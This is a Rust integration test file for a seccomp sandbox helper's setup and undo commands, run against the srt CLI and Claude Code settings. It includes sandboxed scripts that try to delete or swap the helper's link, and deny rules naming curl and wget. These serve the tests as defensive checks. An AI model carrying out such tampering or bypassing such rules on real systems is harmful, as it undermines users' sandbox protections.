//! `--setup` and `--setup --undo` (issue 26), in fresh home folders, as
//! root and as uid 65534: the real srt 0.0.83 CLI then runs its command
//! through this helper and the shim; undo gives the files back byte for
//! byte; what the user had in the settings file is kept; what cannot be
//! set up safely is refused with nothing changed.

mod common;

use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use common::{NOBODY, User, fixture, is_root, uid_of, users, which};

/// A fresh home folder of `user`'s with a project folder in it and srt's
/// settings file written as a user might have it: unknown keys, its own
/// order, odd spacing.
fn fresh_home(user: User, tag: &str) -> (PathBuf, String) {
    let home = common::fresh_folder(&format!("setup-{tag}-{user:?}"));
    std::fs::create_dir(home.join("project")).unwrap();
    let settings = format!(
        "{{\n\t\"myOwnKey\" :  {{\"keep\": [1,2 ,3]}},\n  \"filesystem\":{{\"denyRead\":[],\"allowWrite\":[\"{}\"],\"denyWrite\":[]}},\n  \"network\": {{ \"allowedDomains\": [], \"deniedDomains\": [] }}\n}}\n",
        home.join("project").display()
    );
    std::fs::write(home.join(".srt-settings.json"), &settings).unwrap();
    if let Some(u) = uid_of(user) {
        let status = Command::new("chown")
            .arg("-R")
            .arg(format!("{u}:{u}"))
            .arg(&home)
            .status()
            .unwrap();
        assert!(status.success());
    }
    (home, settings)
}

/// The helper with `args` as `user`, `HOME` set to `home`.
fn helper(user: User, home: &Path, binary: &Path, args: &[&str]) -> Output {
    helper_on(user, home, binary, args, "/usr/local/bin:/usr/bin:/bin")
}

/// [`helper`] with `PATH` set to `path`.
fn helper_on(user: User, home: &Path, binary: &Path, args: &[&str], path: &str) -> Output {
    let mut cmd = Command::new(binary);
    cmd.args(args)
        .env_clear()
        .env("PATH", path)
        .env("HOME", home)
        .env(
            "APPLY_SECCOMP_CLAUDE_MANAGED_SETTINGS",
            home.join("managed-settings.json"),
        )
        .current_dir(home)
        .stdin(Stdio::null());
    if let Some(u) = uid_of(user) {
        cmd.uid(u).gid(u);
    }
    cmd.output().unwrap()
}

/// The record a setup's output names (its last line but the doctor's).
fn record_of(output: &str) -> PathBuf {
    output
        .lines()
        .find_map(|l| {
            l.strip_prefix("recorded these changes for --undo in ")
                .or_else(|| l.strip_prefix("would record these changes for --undo in "))
        })
        .map(PathBuf::from)
        .unwrap_or_else(|| panic!("no record named: {output}"))
}

fn text(o: &Output) -> String {
    format!(
        "{:?}\n{}{}",
        o.status,
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

/// srt's CLI, with bubblewrap there to run it (else the skip is said).
fn client() -> Option<&'static Path> {
    if which("bwrap").is_none() {
        common::skip("bubblewrap is not installed");
        return None;
    }
    common::srt_package()
}

/// `srt -c SCRIPT` by its default settings file, as `user` with `home`, in
/// the project folder, `SRT_DEBUG` on.
fn srt(package: &Path, user: User, home: &Path, script: &str) -> Output {
    srt_in(package, user, home, &home.join("project"), script)
}

/// [`srt`] in the folder `cwd`.
fn srt_in(package: &Path, user: User, home: &Path, cwd: &Path, script: &str) -> Output {
    let mut srt = Command::new(package.join("node_modules/.bin/srt"));
    srt.arg("-c")
        .arg(script)
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", home)
        .env("TMPDIR", common::client_tmp())
        .env("SRT_DEBUG", "1")
        .current_dir(cwd)
        .stdin(Stdio::null());
    if let Some(u) = uid_of(user) {
        srt.uid(u).gid(u);
    }
    srt.output().unwrap()
}

#[test]
fn setup_points_srt_at_this_helper_and_undo_gives_every_byte_back() {
    let Some(package) = client() else {
        return;
    };
    for user in users() {
        let (home, original) = fresh_home(user, "srt");
        let settings = home.join(".srt-settings.json");
        let binary = &fixture().helper;
        let link = home.join(".local/lib/apply-seccomp/bwrap");
        let out = helper(user, &home, binary, &["--setup", "--dry-run"]);
        let ctx = text(&out);
        assert!(ctx.contains("would change"), "{user:?}: {ctx}");
        // Issue 58: no doctor report describing the machine as it is.
        assert!(
            ctx.contains("(a dry run: nothing changed;"),
            "{user:?}: {ctx}"
        );
        assert!(!ctx.contains("verdict:"), "{user:?}: {ctx}");
        assert_eq!(read(&settings), original, "{user:?}: the dry run wrote");
        assert!(!link.exists(), "{user:?}: the dry run made the link");

        use std::os::unix::fs::{MetadataExt, PermissionsExt};
        std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o640)).unwrap();
        let owner = std::fs::metadata(&settings).unwrap().uid();
        let out = helper(user, &home, binary, &["--setup"]);
        let ctx = text(&out);
        let meta = std::fs::metadata(&settings).unwrap();
        assert_eq!(
            (meta.mode() & 0o7777, meta.uid()),
            (0o640, owner),
            "{user:?}"
        );
        assert!(
            ctx.contains(&format!("made {} -> {}", link.display(), binary.display())),
            "{user:?}: {ctx}"
        );
        // The user's keys, order and spacing kept; the two members added
        // last, spaced as the last one before them.
        let want = original.replacen(
            "\"deniedDomains\": [] }\n}",
            &format!(
                "\"deniedDomains\": [] }},\n  \"seccomp\": {{\"applyPath\": \"{}\"}},\n  \"bwrapPath\": \"{}\"\n}}",
                binary.display(),
                link.display()
            ),
            1,
        );
        assert_eq!(read(&settings), want, "{user:?}: {ctx}");
        assert_eq!(std::fs::read_link(&link).unwrap(), *binary);

        // The real client, by its default settings file: this helper runs
        // the command (its SRT_DEBUG lines), through the shim.
        let run = srt(
            package,
            user,
            &home,
            "grep Seccomp_filters /proc/self/status",
        );
        let run_ctx = text(&run);
        assert_eq!(run.status.code(), Some(0), "{user:?}: {run_ctx}");
        assert!(
            run_ctx.contains("apply-seccomp: entry: "),
            "{user:?}: not this helper: {run_ctx}"
        );
        assert!(
            run_ctx.contains("apply-seccomp: bwrap shim: "),
            "{user:?}: not through the shim: {run_ctx}"
        );
        assert!(
            run_ctx.contains("Seccomp_filters:\t2"),
            "{user:?}: {run_ctx}"
        );

        // Twice: nothing changes.
        let record = record_of(&ctx);
        let (s1, r1) = (read(&settings), read(&record));
        // (With the link's folder first on PATH: no advice about PATH.)
        let first = format!(
            "{}:/usr/local/bin:/usr/bin:/bin",
            link.parent().unwrap().display()
        );
        let again = helper_on(user, &home, binary, &["--setup"], &first);
        let again_ctx = text(&again);
        assert!(!again_ctx.contains("does not come before"), "{again_ctx}");
        assert!(
            !again_ctx
                .lines()
                .any(|l| l.starts_with("changed ") || l.starts_with("made ")),
            "{user:?}: {again_ctx}"
        );
        assert!(again_ctx.contains("\nunchanged "), "{user:?}: {again_ctx}");
        assert_eq!((read(&settings), read(&record)), (s1, r1), "{user:?}");

        // Undo: every byte back, the link and the record gone.
        let dry = text(&helper(user, &home, binary, &["--undo", "--dry-run"]));
        assert!(dry.contains("would "), "{user:?}: {dry}");
        assert!(!dry.contains("verdict:"), "{user:?}: {dry}");
        assert!(read(&settings) != original, "{user:?}: the dry undo wrote");
        let undone = helper(user, &home, binary, &["--setup", "--undo"]);
        let undo_ctx = text(&undone);
        assert_eq!(read(&settings), original, "{user:?}: {undo_ctx}");
        assert!(std::fs::symlink_metadata(&link).is_err(), "{user:?}");
        assert!(!link.parent().unwrap().exists(), "{user:?}: {undo_ctx}");
        assert!(!record.exists(), "{user:?}: {undo_ctx}");
    }
}

#[test]
fn undo_after_the_user_edited_the_file_takes_back_only_what_setup_set() {
    for user in users() {
        let (home, _) = fresh_home(user, "edited");
        let settings = home.join(".srt-settings.json");
        let out = helper(user, &home, &fixture().helper, &["--setup", "--srt"]);
        assert!(text(&out).contains("changed "), "{user:?}: {}", text(&out));
        // The user adds a key of their own and changes bwrapPath.
        let edited = read(&settings)
            .replacen("\"myOwnKey\"", "\"added\": true,\n\t\"myOwnKey\"", 1)
            .replacen(
                &format!(
                    "\"{}\"",
                    home.join(".local/lib/apply-seccomp/bwrap").display()
                ),
                "\"/usr/bin/bwrap\"",
                1,
            );
        std::fs::write(&settings, &edited).unwrap();
        let out = helper(user, &home, &fixture().helper, &["--setup", "--undo"]);
        let ctx = text(&out);
        let now = read(&settings);
        assert!(now.contains("\"added\": true"), "{user:?}: {ctx}\n{now}");
        assert!(
            now.contains("\"bwrapPath\": \"/usr/bin/bwrap\""),
            "{user:?}: {now}"
        );
        assert!(!now.contains("applyPath"), "{user:?}: {ctx}\n{now}");
        assert!(
            ctx.contains("bwrapPath left (changed since setup)"),
            "{ctx}"
        );
    }
}

#[test]
fn what_cannot_be_set_up_safely_is_refused_and_nothing_changes() {
    for user in users() {
        // Not JSON: refused with the line, left as it is, no link made.
        let (home, _) = fresh_home(user, "invalid");
        let settings = home.join(".srt-settings.json");
        let bad = "{\n  \"network\": {},\n  \"filesystem\": [,]\n}\n";
        std::fs::write(&settings, bad).unwrap();
        let out = helper(user, &home, &fixture().helper, &["--setup"]);
        let ctx = text(&out);
        assert_eq!(out.status.code(), Some(1), "{user:?}: {ctx}");
        assert!(ctx.contains("not valid JSON ("), "{ctx}");
        assert!(ctx.contains("at line 3 column"), "{ctx}");
        assert!(ctx.contains("): left as it is"), "{ctx}");
        assert_eq!(read(&settings), bad);
        assert!(!home.join(".local/lib/apply-seccomp/bwrap").exists());

        // A settings file that is a link someone else made: not followed.
        if user == User::Root {
            let (home, _) = fresh_home(user, "link");
            let settings = home.join(".srt-settings.json");
            let real = home.join("elsewhere.json");
            std::fs::rename(&settings, &real).unwrap();
            std::os::unix::fs::symlink(&real, &settings).unwrap();
            std::os::unix::fs::lchown(&settings, Some(NOBODY), Some(NOBODY)).unwrap();
            let before = read(&real);
            let out = helper(user, &home, &fixture().helper, &["--setup", "--srt"]);
            let ctx = text(&out);
            assert_eq!(out.status.code(), Some(1), "{ctx}");
            assert!(ctx.contains("not by this user: not followed"), "{ctx}");
            assert_eq!(read(&real), before);
            let kind = std::fs::symlink_metadata(&settings).unwrap().file_type();
            assert!(kind.is_symlink());
            assert!(
                !home.join(".local/lib/apply-seccomp/bwrap").exists(),
                "{ctx}"
            );
        }

        // The binary inside an allowWrite folder: refused.
        let (home, original) = fresh_home(user, "inside");
        let inside = home.join("project/apply-seccomp");
        common::install(&fixture().helper, &inside, 0o755);
        let out = helper(user, &home, &inside, &["--setup"]);
        let ctx = text(&out);
        assert_eq!(out.status.code(), Some(1), "{user:?}: {ctx}");
        assert!(
            ctx.contains("a sandboxed command could replace it"),
            "{user:?}: {ctx}"
        );
        assert!(ctx.contains("allowWrite entry"), "{ctx}");
        assert_eq!(read(&home.join(".srt-settings.json")), original);
        assert!(!home.join(".local/lib/apply-seccomp/bwrap").exists());
        assert!(!ctx.contains("recorded these changes"), "{ctx}");
    }
}

/// Run in the home folder with `allowWrite: ["."]`, where `"."` covers
/// the link's folder: the link is made, and both `--setup` and the doctor
/// say what the shim protects there instead of refusing. Then srt, started
/// in the home folder: the link cannot be removed, `~/.local/bin` stays
/// writable (what `pip install --user` writes), and a link left there by
/// an earlier setup is said, with how to remove it.
#[test]
fn a_link_folder_a_sandbox_may_write_is_protected_not_refused() {
    let package = client();
    for user in users() {
        let (home, _) = fresh_home(user, "dot");
        let _undo = common::UndoSetup(user, home.clone());
        let settings = home.join(".srt-settings.json");
        std::fs::write(
            &settings,
            r#"{"filesystem": {"denyRead": [], "allowWrite": ["."], "denyWrite": []},
                "network": {"allowedDomains": [], "deniedDomains": []}}"#,
        )
        .unwrap();
        // An earlier setup's link.
        let old = home.join(".local/bin/bwrap");
        std::fs::create_dir_all(old.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(&fixture().helper, &old).unwrap();
        if let Some(u) = uid_of(user) {
            for p in [&settings, &home.join(".local"), &home.join(".local/bin")] {
                std::os::unix::fs::chown(p, Some(u), Some(u)).unwrap();
            }
            std::os::unix::fs::lchown(&old, Some(u), Some(u)).unwrap();
        }
        let out = helper(user, &home, &fixture().helper, &["--setup", "--srt"]);
        let ctx = text(&out);
        assert_eq!(out.status.code(), Some(0), "{user:?}: {ctx}");
        assert!(
            ctx.contains("but the shim protects the link there in every sandbox it runs"),
            "{ctx}"
        );
        assert!(
            ctx.contains(&format!(
                "(an earlier setup's link) is still there: while PATH names {}",
                old.parent().unwrap().display()
            )) && ctx.contains(&format!("remove it: rm {}", old.display())),
            "{ctx}"
        );
        assert_eq!(std::fs::read_link(&old).unwrap(), fixture().helper, "left");
        let link = home.join(".local/lib/apply-seccomp/bwrap");
        assert_eq!(std::fs::read_link(&link).unwrap(), fixture().helper);
        let out = helper(user, &home, &fixture().helper, &["--doctor", "--json"]);
        let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let check = report["checks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["name"] == "srt bwrapPath")
            .unwrap_or_else(|| panic!("{}", text(&out)))
            .clone();
        assert_eq!(check["status"], "ok", "{check}");
        assert!(
            check["found"]
                .as_str()
                .unwrap()
                .contains("the link's folder is bound read-only inside such a sandbox"),
            "{check}"
        );

        let Some(package) = package else {
            continue;
        };
        // The earlier link gone (as the line says), srt in the home folder.
        std::fs::remove_file(&old).unwrap();
        let run = srt_in(
            package,
            user,
            &home,
            &home,
            "printf '#!/bin/sh\n' > .local/bin/tool && echo wrote; \
             rm -f .local/lib/apply-seccomp/bwrap; \
             ln -sf /bin/true .local/lib/apply-seccomp/bwrap; \
             mv .local/lib .local/lib.old; true",
        );
        let run_ctx = text(&run);
        assert_eq!(run.status.code(), Some(0), "{user:?}: {run_ctx}");
        assert!(run_ctx.contains("apply-seccomp: entry: "), "{run_ctx}");
        assert!(run_ctx.contains("\nwrote\n"), "{user:?}: {run_ctx}");
        assert!(home.join(".local/bin/tool").is_file(), "{run_ctx}");
        assert!(
            run_ctx.contains(
                "rm: cannot remove '.local/lib/apply-seccomp/bwrap': Read-only file system"
            ),
            "{user:?}: {run_ctx}"
        );
        assert!(
            run_ctx.contains(
                "mv: cannot move '.local/lib' to '.local/lib.old': Device or resource busy"
            ),
            "{user:?}: {run_ctx}"
        );
        assert_eq!(
            std::fs::read_link(&link).unwrap(),
            fixture().helper,
            "{run_ctx}"
        );
    }
}

#[test]
fn managed_settings_are_set_as_root_only_and_undone() {
    for user in users() {
        let (home, _) = fresh_home(user, "managed");
        let managed = home.join("managed-settings.json");
        let before = "{\"permissions\": {\"deny\": []}}\n";
        std::fs::write(&managed, before).unwrap();
        let out = helper(
            user,
            &home,
            &fixture().helper,
            &["--setup", "--claude-code", "--managed"],
        );
        let ctx = text(&out);
        if uid_of(user).is_some() || !is_root() {
            assert_eq!(out.status.code(), Some(1), "{ctx}");
            assert!(ctx.contains("run it as root"), "{ctx}");
            assert_eq!(read(&managed), before);
            continue;
        }
        let link = home.join(".local/lib/apply-seccomp/bwrap");
        assert_eq!(
            read(&managed),
            format!(
                "{{\"permissions\": {{\"deny\": []}}, \"sandbox\": {{\"bwrapPath\": \"{}\"}}}}\n",
                link.display()
            ),
            "{ctx}"
        );
        assert!(
            ctx.contains("does not come before every other bwrap on PATH"),
            "{ctx}"
        );
        // Issue 58: the step that is the user's is said to be theirs.
        assert!(
            ctx.contains("one step left for you (setup edits no shell start-up file)"),
            "{ctx}"
        );
        let out = helper(user, &home, &fixture().helper, &["--setup", "--undo"]);
        assert_eq!(read(&managed), before, "{}", text(&out));
    }
}

/// No settings file yet: setup makes one from srt's own built-in
/// configuration (srt refuses a file without `network` and
/// `filesystem`), so srt runs as it did, now through this helper; undo
/// removes the file again.
#[test]
fn a_missing_settings_file_is_made_from_srts_defaults_and_undo_removes_it() {
    let Some(package) = client() else {
        return;
    };
    for user in users() {
        let (home, _) = fresh_home(user, "missing");
        let settings = home.join(".srt-settings.json");
        std::fs::remove_file(&settings).unwrap();
        let out = helper(user, &home, &fixture().helper, &["--setup", "--srt"]);
        let ctx = text(&out);
        assert!(settings.exists(), "{user:?}: {ctx}");
        let run = srt(package, user, &home, "echo ran");
        let run_ctx = text(&run);
        assert_eq!(run.status.code(), Some(0), "{user:?}: {run_ctx}");
        assert!(run_ctx.contains("ran\n"), "{run_ctx}");
        assert!(run_ctx.contains("apply-seccomp: entry: "), "{run_ctx}");
        let out = helper(user, &home, &fixture().helper, &["--setup", "--undo"]);
        assert!(!settings.exists(), "{user:?}: {}", text(&out));
    }
}

/// `--allow-unix-socket PATH`: added to `APPLY_SECCOMP_ALLOW_UNIX` in
/// Claude Code's settings `env` (twice: both, once each), the export line
/// for srt said, a relative path refused; `--undo` takes the file back.
#[test]
fn allow_unix_socket_goes_to_claude_codes_env_and_is_undone() {
    for user in users() {
        let (home, _) = fresh_home(user, "allow");
        let claude = home.join(".claude/settings.json");
        // No ~/.claude yet (Claude Code never ran): nothing written there.
        let out = helper(
            user,
            &home,
            &fixture().helper,
            &[
                "--setup",
                "--claude-code",
                "--allow-unix-socket",
                "/tmp/a.sock",
            ],
        );
        assert!(text(&out).contains("is missing (Claude Code has not run as this user)"));
        assert!(!claude.exists());
        std::fs::create_dir(home.join(".claude")).unwrap();
        if let Some(u) = uid_of(user) {
            std::os::unix::fs::chown(home.join(".claude"), Some(u), Some(u)).unwrap();
        }
        let out = helper(
            user,
            &home,
            &fixture().helper,
            &["--setup", "--allow-unix-socket", "/tmp/agent-a.sock"],
        );
        let ctx = text(&out);
        assert!(
            ctx.contains("export APPLY_SECCOMP_ALLOW_UNIX=\"/tmp/agent-a.sock\""),
            "{user:?}: {ctx}"
        );
        assert!(ctx.contains("is not a socket now"), "{ctx}");
        assert!(ctx.contains("ssh-agent and gpg-agent sign as you"), "{ctx}");
        let out = helper(
            user,
            &home,
            &fixture().helper,
            &[
                "--setup",
                "--claude-code",
                "--allow-unix-socket",
                "/tmp/agent-b.sock",
            ],
        );
        let settings: serde_json::Value = serde_json::from_str(&read(&claude)).unwrap();
        assert_eq!(
            settings["env"]["APPLY_SECCOMP_ALLOW_UNIX"],
            "/tmp/agent-a.sock:/tmp/agent-b.sock",
            "{}",
            text(&out)
        );
        let out = helper(
            user,
            &home,
            &fixture().helper,
            &["--setup", "--allow-unix-socket", "agent.sock"],
        );
        assert_eq!(out.status.code(), Some(125), "{}", text(&out));
        assert!(text(&out).contains("name the socket by its absolute path"));
        let out = helper(user, &home, &fixture().helper, &["--setup", "--undo"]);
        assert!(!claude.exists(), "{user:?}: {}", text(&out));
    }
}

/// `text` with every blank outside its strings removed: the same JSON
/// values, other bytes (as `json.dump` with another indent would give).
fn reformat(text: &str) -> String {
    let mut out = String::new();
    let (mut in_string, mut escaped) = (false, false);
    for c in text.chars() {
        if in_string {
            escaped = !escaped && c == '\\';
            in_string = escaped || c != '"';
        } else if c == '"' {
            in_string = true;
        } else if c.is_whitespace() {
            continue;
        }
        out.push(c);
    }
    out
}

/// Issue 46: `--undo` alone is `--setup --undo` (the README's word), and
/// a settings file reformatted since setup, with the same values, is
/// still setup's to take back: compared by value, not by bytes.
#[test]
fn undo_alone_takes_back_a_reformatted_file() {
    for user in users() {
        let (home, _) = fresh_home(user, "reformatted");
        let settings = home.join(".srt-settings.json");
        let out = helper(user, &home, &fixture().helper, &["--setup", "--srt"]);
        assert!(text(&out).contains("changed "), "{user:?}: {}", text(&out));
        let record = record_of(&text(&out));
        let compact = reformat(&read(&settings));
        assert!(compact.contains("\"seccomp\":{\"applyPath\":"), "{compact}");
        std::fs::write(&settings, &compact).unwrap();
        let out = helper(user, &home, &fixture().helper, &["--undo"]);
        let ctx = text(&out);
        assert_eq!(out.status.code(), Some(0), "{user:?}: {ctx}");
        let now = read(&settings);
        assert!(!now.contains("applyPath"), "{user:?}: {ctx}\n{now}");
        assert!(!now.contains("bwrapPath"), "{user:?}: {ctx}\n{now}");
        assert!(now.contains("\"myOwnKey\""), "{now}");
        assert!(!ctx.contains("changed since setup"), "{ctx}");
        assert!(!record.exists(), "{ctx}");
    }
}

/// `--setup --gpu` (issue 47): `APPLY_SECCOMP_DEVICES=gpu` in Claude
/// Code's settings `env`, the export line for srt, what it gives a
/// command said; `--undo` takes it back.
#[test]
fn gpu_goes_to_claude_codes_env_and_is_undone() {
    for user in users() {
        let (home, _) = fresh_home(user, "gpu");
        std::fs::create_dir(home.join(".claude")).unwrap();
        if let Some(u) = uid_of(user) {
            std::os::unix::fs::chown(home.join(".claude"), Some(u), Some(u)).unwrap();
        }
        let out = helper(user, &home, &fixture().helper, &["--setup", "--gpu"]);
        let ctx = text(&out);
        assert!(
            ctx.contains("export APPLY_SECCOMP_DEVICES=\"gpu\""),
            "{user:?}: {ctx}"
        );
        assert!(ctx.contains("its driver's whole ioctl interface"), "{ctx}");
        let claude = home.join(".claude/settings.json");
        let settings: serde_json::Value = serde_json::from_str(&read(&claude)).unwrap();
        assert_eq!(settings["env"]["APPLY_SECCOMP_DEVICES"], "gpu", "{ctx}");
        let out = helper(user, &home, &fixture().helper, &["--undo"]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out));
        assert!(!claude.exists(), "{}", text(&out));
    }
}

/// `--setup --max-tasks N --memory-max SIZE --cpu-max CPUS` (issue 57):
/// each in Claude Code's settings `env` and an export line for srt;
/// a bad value refused with nothing written; `--undo` takes them back.
#[test]
fn the_runs_caps_go_to_claude_codes_env_and_are_undone() {
    for user in users() {
        let (home, _) = fresh_home(user, "caps");
        std::fs::create_dir(home.join(".claude")).unwrap();
        if let Some(u) = uid_of(user) {
            std::os::unix::fs::chown(home.join(".claude"), Some(u), Some(u)).unwrap();
        }
        let claude = home.join(".claude/settings.json");
        let bad = helper(
            user,
            &home,
            &fixture().helper,
            &["--setup", "--memory-max", "lots"],
        );
        assert_eq!(bad.status.code(), Some(125), "{}", text(&bad));
        assert!(
            text(&bad).contains("--memory-max lots: APPLY_SECCOMP_MEMORY_MAX=lots"),
            "{}",
            text(&bad)
        );
        assert!(!claude.exists(), "{}", text(&bad));
        let args = [
            "--setup",
            "--max-tasks",
            "512",
            "--memory-max",
            "8G",
            "--cpu-max",
            "1.5",
        ];
        let out = helper(user, &home, &fixture().helper, &args);
        let ctx = text(&out);
        assert_eq!(out.status.code(), Some(0), "{ctx}");
        for (var, value) in [
            ("APPLY_SECCOMP_MAX_TASKS", "512"),
            ("APPLY_SECCOMP_MEMORY_MAX", "8G"),
            ("APPLY_SECCOMP_CPU_MAX", "1.5"),
        ] {
            assert!(
                ctx.contains(&format!("export {var}=\"{value}\"")),
                "{user:?}: {ctx}"
            );
            let settings: serde_json::Value = serde_json::from_str(&read(&claude)).unwrap();
            assert_eq!(settings["env"][var], value, "{ctx}");
        }
        let out = helper(user, &home, &fixture().helper, &["--undo"]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out));
        assert!(!claude.exists(), "{}", text(&out));
    }
}

/// Runs `helper args` as `user` under strace with every `fsync` held
/// 800 ms (setup's write of a settings file: the temporary copy is made,
/// then synced, then renamed over), and while the first is held writes
/// `other` into `file` as another program would (Claude Code writes its
/// settings when a user accepts or denies a rule). Returns setup's
/// output.
fn with_a_writer_meanwhile(
    user: User,
    home: &Path,
    args: &[&str],
    file: &Path,
    other: &str,
) -> Output {
    let strace = which("strace").unwrap();
    let mut cmd = Command::new(strace);
    cmd.args([
        "-f",
        "-o",
        "/dev/null",
        "-e",
        "trace=fsync",
        "-e",
        "inject=fsync:delay_exit=800000",
    ])
    .arg(&fixture().helper)
    .args(args)
    .env_clear()
    .env("PATH", "/usr/local/bin:/usr/bin:/bin")
    .env("HOME", home)
    .env(
        "APPLY_SECCOMP_CLAUDE_MANAGED_SETTINGS",
        home.join("managed-settings.json"),
    )
    .current_dir(home)
    .stdin(Stdio::null())
    .stdout(Stdio::piped())
    .stderr(Stdio::piped());
    if let Some(u) = uid_of(user) {
        cmd.uid(u).gid(u);
    }
    let child = cmd.spawn().unwrap();
    // The temporary copy of `file` appears: setup's write is under way.
    let dir = file.parent().unwrap();
    let prefix = format!(
        ".{}.apply-seccomp-setup.",
        file.file_name().unwrap().to_string_lossy()
    );
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        let seen = std::fs::read_dir(dir).unwrap().any(|e| {
            e.unwrap()
                .file_name()
                .to_string_lossy()
                .starts_with(&prefix)
        });
        if seen {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "setup never wrote {}",
            file.display()
        );
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    std::fs::write(file, other).unwrap();
    child.wait_with_output().unwrap()
}

/// Settings edits never drop a concurrent writer's change (issue 54): a
/// deny rule written into Claude Code's settings while `--setup --gpu`
/// edits them, and while `--undo` takes the edit back, is there after
/// both, beside (then without) setup's value. Before, setup's rename put
/// its copy of the old text back: the rule was gone, and it said
/// "changed".
#[test]
fn a_change_made_during_an_edit_is_kept() {
    if which("strace").is_none() {
        common::skip("strace is not installed: the concurrent writer cannot be timed");
        return;
    }
    for user in users() {
        let (home, _) = fresh_home(user, "meanwhile");
        let claude = home.join(".claude/settings.json");
        std::fs::create_dir(home.join(".claude")).unwrap();
        std::fs::write(&claude, "{\"permissions\": {\"deny\": []}}\n").unwrap();
        if let Some(u) = uid_of(user) {
            let status = Command::new("chown")
                .args(["-R", &format!("{u}:{u}")])
                .arg(home.join(".claude"))
                .status()
                .unwrap();
            assert!(status.success());
        }
        let rule = "{\"permissions\": {\"deny\": [\"Bash(curl:*)\"]}}\n";
        let out = with_a_writer_meanwhile(user, &home, &["--setup", "--gpu"], &claude, rule);
        let ctx = format!("{user:?}: {}", text(&out));
        assert_eq!(out.status.code(), Some(0), "{ctx}");
        let settings: serde_json::Value = serde_json::from_str(&read(&claude)).unwrap();
        assert_eq!(
            settings["permissions"]["deny"][0], "Bash(curl:*)",
            "{ctx}\n{settings}"
        );
        assert_eq!(
            settings["env"]["APPLY_SECCOMP_DEVICES"], "gpu",
            "{ctx}\n{settings}"
        );
        // The undo, with a second rule written meanwhile.
        let mut two = settings.clone();
        two["permissions"]["deny"] = serde_json::json!(["Bash(curl:*)", "Bash(wget:*)"]);
        let out = with_a_writer_meanwhile(user, &home, &["--undo"], &claude, &two.to_string());
        let ctx = format!("{user:?}: {}", text(&out));
        assert_eq!(out.status.code(), Some(0), "{ctx}");
        let after: serde_json::Value = serde_json::from_str(&read(&claude)).unwrap();
        assert_eq!(
            after["permissions"]["deny"],
            serde_json::json!(["Bash(curl:*)", "Bash(wget:*)"]),
            "{ctx}\n{after}"
        );
        assert!(
            after["env"].get("APPLY_SECCOMP_DEVICES").is_none(),
            "{ctx}\n{after}"
        );
    }
}

/// The Debian package's prerm runs each user's undo giving that user's
/// process nothing of root's (issue 68, item 2): prerm runs as root on
/// root's terminal, and the user's process, once it runs as the user, is
/// anyone of that user's to ptrace. A stand-in for the package's binary
/// (tests/probe/prerm-user.sh) reports, as the user: no terminal among
/// its descriptors, its parents' or as `/dev/tty` (before: the user's
/// shell wrote to root's terminal, and /dev/tty was it), a session of its
/// own, no descriptor of root's (7, opened before prerm); and an escape
/// sequence it prints reaches root's terminal without a control byte.
/// prerm itself runs with its output on a pseudo-terminal that is its
/// controlling one, in a mount namespace whose /etc/passwd names a user
/// with a record of setup's and whose /usr/bin holds the stand-in.
#[test]
fn prerm_gives_a_users_undo_nothing_of_roots() {
    prerm_with_the_stand_in(false);
}

/// prerm ends although a process of the user stops the user's undo
/// (issue 68, a review's finding: the time limit was the user's own
/// `timeout`, which the user's processes may stop, and dpkg waited
/// forever): the limit is root's now, 60 s for the user's process and 65
/// s for root's reader of its output. Full suite only: it waits them out.
#[test]
fn prerm_ends_though_the_users_undo_is_stopped() {
    if !common::in_full_suite("waits out prerm's time limit (65 s)") {
        return;
    }
    let started = std::time::Instant::now();
    prerm_with_the_stand_in(true);
    assert!(started.elapsed() < std::time::Duration::from_secs(90));
}

/// prerm run on the stand-in for the package's binary (see the test
/// above); `stopped`: the stand-in stops its parent and itself.
fn prerm_with_the_stand_in(stopped: bool) {
    if !is_root() {
        common::skip("not root: prerm runs as root");
        return;
    }
    for tool in ["setsid", "unshare", "python3", "setpriv"] {
        if which(tool).is_none() {
            common::skip(&format!("{tool} is not installed"));
            return;
        }
    }
    let dir = common::fresh_folder("prerm");
    let home = dir.join("home");
    let state = home.join(".local/state/apply-seccomp");
    std::fs::create_dir_all(&state).unwrap();
    std::fs::write(
        state.join("setup.json"),
        "{\"files\": [], \"links\": [{\"link\": \"/nowhere/bwrap\", \"to\": \"/usr/bin/apply-seccomp\"}]}\n",
    )
    .unwrap();
    for d in [
        &home,
        &home.join(".local"),
        &home.join(".local/state"),
        &state,
        &state.join("setup.json"),
    ] {
        std::os::unix::fs::chown(d, Some(NOBODY), Some(NOBODY)).unwrap();
    }
    if stopped {
        std::fs::write(home.join("stop"), "").unwrap();
    }
    let root_home = dir.join("root-home");
    std::fs::create_dir(&root_home).unwrap();
    let passwd = dir.join("passwd");
    std::fs::write(
        &passwd,
        format!(
            "root:x:0:0:root:{}:/bin/sh\nnobody:x:{NOBODY}:{NOBODY}:nobody:{}:/bin/sh\n",
            root_home.display(),
            home.display()
        ),
    )
    .unwrap();
    let upper = dir.join("upper");
    let work = dir.join("work");
    std::fs::create_dir(&upper).unwrap();
    std::fs::create_dir(&work).unwrap();
    let probe = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/probe/prerm-user.sh");
    common::install(&probe, &upper.join("apply-seccomp"), 0o755);
    let prerm = Path::new(env!("CARGO_MANIFEST_DIR")).join("pkg/debian/prerm");
    let script = format!(
        "set -e; mount --bind {passwd} /etc/passwd; \
         mount -t overlay o -o lowerdir=/usr/bin,upperdir={upper},workdir={work} /usr/bin; \
         exec 7</etc/hostname; exec sh {prerm} remove",
        passwd = passwd.display(),
        upper = upper.display(),
        work = work.display(),
        prerm = prerm.display()
    );
    let pty = nix::pty::openpty(None, None).unwrap();
    let slave = || Stdio::from(pty.slave.try_clone().unwrap());
    let mut child = Command::new("setsid")
        .args(["-c", "unshare", "-m", "sh", "-c", &script])
